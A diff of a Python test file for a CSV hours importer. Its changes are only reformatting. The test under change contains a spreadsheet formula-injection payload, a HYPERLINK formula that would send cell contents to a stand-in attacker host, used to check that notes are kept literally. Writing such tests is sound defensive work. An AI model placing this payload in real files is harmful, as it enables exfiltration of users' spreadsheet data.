@@ -1,4 +1,5 @@
 """Hours CSV imports: every bad file or row is reported with row, column and reason, and nothing is half-imported."""
+
 from __future__ import annotations
 
 import pytest
@@ -65,7 +66,10 @@ def test_missing_columns_are_named(cert_world):
 
 def test_a_utf8_bom_and_email_identify_learners_and_notes_are_kept_literally(cert_world):
     payload = '=HYPERLINK("http://attacker.example/?d="&A1,"x")'
-    raw = "\ufeffemail,cohort,source,minutes,date,note\n" + f'AMINA_A@example.com,cloud-a,school,45,2026-02-01,"{payload.replace(chr(34), chr(34) * 2)}"\n'
+    raw = (
+        "\ufeffemail,cohort,source,minutes,date,note\n"
+        + f'AMINA_A@example.com,cloud-a,school,45,2026-02-01,"{payload.replace(chr(34), chr(34) * 2)}"\n'
+    )
     report = imports.import_hours_csv(cert_world.coordinator_a, raw.encode("utf-8"), dry_run=False)
     assert report.ok and report.imported == 1
     entry = models.HoursEntry.objects.get()
